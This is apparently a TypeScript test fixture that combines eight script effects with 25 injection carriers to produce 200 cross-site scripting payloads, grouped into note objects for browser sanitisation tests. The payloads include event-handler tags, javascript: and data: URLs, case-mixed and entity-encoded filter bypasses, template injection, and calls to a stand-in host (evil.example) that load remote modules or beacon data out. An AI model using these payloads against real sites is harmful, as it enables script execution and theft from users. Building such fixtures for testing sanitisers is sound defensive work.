/** Effects that an attacker wants in a page; each leaves a trace that a browser test looks for. */
const scripts = [
  "alert(1)",
  "window.__ran=1",
  "top.__ran=1",
  "document.title=`ran`",
  "fetch(`https://evil.example/f`)",
  "import(`https://evil.example/m.js`)",
  "new Image().src=`https://evil.example/i`",
  "location=`https://evil.example/l`",
];

/** Ways to bring a script into a page: as HTML, as a link or picture of Markdown, as a template. */
const carriers: ReadonlyArray<(script: string) => string> = [
  (script) => `<script>${script}</script>`,
  (script) => `"><script>${script}</script>`,
  (script) => `</title><script>${script}</script>`,
  (script) => `<img src=x onerror="${script}">`,
  (script) => `'"><img src=x onerror=${script}>`,
  (script) => `<svg onload="${script}">`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<body onload="${script}">`,
  (script) => `<details open ontoggle="${script}">`,
  (script) => `<input autofocus onfocus="${script}">`,
  (script) => `<video><source onerror="${script}"></video>`,
  (script) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  (script) => `<iframe src="javascript:${script}"></iframe>`,
  (script) => `<object data="javascript:${script}"></object>`,
  (script) => `<a href="javascript:${script}">aquí</a>`,
  (script) => `<form action="javascript:${script}"><button>Sí</button></form>`,
  (script) => `<math><mi xlink:href="javascript:${script}">x</mi></math>`,
  (script) => `[aquí](javascript:${script})`,
  (script) => `[aquí](JaVaScRiPt:${script})`,
  (script) => `[aquí](java&#115;cript:${script})`,
  (script) => `[aquí](data:text/html,<script>${script}</script>)`,
  (script) => `![foto](javascript:${script})`,
  (script) => `[aquí](https://evil.example" onmouseover="${script})`,
  (script) => `{{constructor.constructor("${script}")()}}`,
  (script) => `**<img src=x onerror="${script}">**`,
];

/** 200 texts that would run something where text were taken for code; each at most 120 characters. */
export const scriptPayloads: readonly string[] = carriers.flatMap((carry) =>
  scripts.map((script) => carry(script)),
);

/** Input of a test of notes: a title with a script, and texts with several. */
export type ScriptNote = {
  /** At most 120 characters. */
  title: string;
  /** Two texts of at most 500 characters that hold four scripts each, one a line. */
  remarks: readonly [string, string];
  /** All eight scripts, carried in the same way; at most 1,000 characters. */
  long: string;
};

/**
 * The 200 scripts as 25 notes, one for each way of carrying: together the remarks hold all of them,
 * as the long texts do; the titles hold each way once and each script at least three times.
 */
export const scriptNotes: readonly ScriptNote[] = carriers.map((carry, index) => {
  const texts = scripts.map((script) => carry(script));
  return {
    title: texts[index % texts.length] ?? "",
    remarks: [texts.slice(0, 4).join("\n"), texts.slice(4).join("\n")],
    long: texts.join("\n"),
  };
});
